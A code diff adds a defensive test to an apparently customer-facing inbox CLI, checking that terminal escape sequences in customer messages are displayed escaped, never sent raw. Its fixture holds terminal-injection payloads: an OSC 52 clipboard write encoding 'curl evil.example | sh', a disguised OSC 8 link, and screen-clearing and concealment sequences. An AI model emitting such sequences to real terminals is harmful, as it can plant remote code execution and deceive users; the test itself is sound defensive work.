@@ -215,6 +215,29 @@ def test_customer_markup_is_shown_as_typed(config: Path, database_url: str) -> N
     assert "[bold red]URGENT[/]" in listed.output and "[blink]Eve[/blink]" in listed.output
 
 
+TERMINAL_ATTACK = (
+    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # OSC 52: writes the agent's clipboard
+    "\x1b]8;;https://evil.example\x1b\\suivi de commande\x1b]8;;\x1b\\"  # OSC 8: a disguised link
+    "\x1b[2J\x1b[8mconcealed\x1b[0m\x9b2J\rle site est en panne ?"  # clear, conceal, C1 CSI, CR
+)
+
+
+def test_terminal_sequences_in_customer_text_are_shown_never_sent(config: Path, database_url: str) -> None:
+    (cid,) = with_sessions(
+        database_url,
+        lambda sessions: customer_writes(
+            sessions, inbound("9:1", TERMINAL_ATTACK, key="9", customer_name="\x1b[8mEve\x1b[0m")
+        ),
+    )
+    outputs = [inbox(config, *args) for args in (["show", str(cid)], ["list"], ["show", str(cid), "--json"])]
+    for result in outputs:
+        assert result.exit_code == 0, result.output
+        assert not {"\x1b", "\x07", "\x9b", "\r"} & set(result.output), repr(result.output)
+    assert "\\x1b]52;c;" in outputs[0].output and "\\x9b2J" in outputs[0].output
+    assert "\\x1b[8mEve" in outputs[1].output
+    assert json.loads(outputs[2].output)["messages"][0]["text"] == TERMINAL_ATTACK
+
+
 @pytest.mark.parametrize(
     ("args", "expected"),
     [
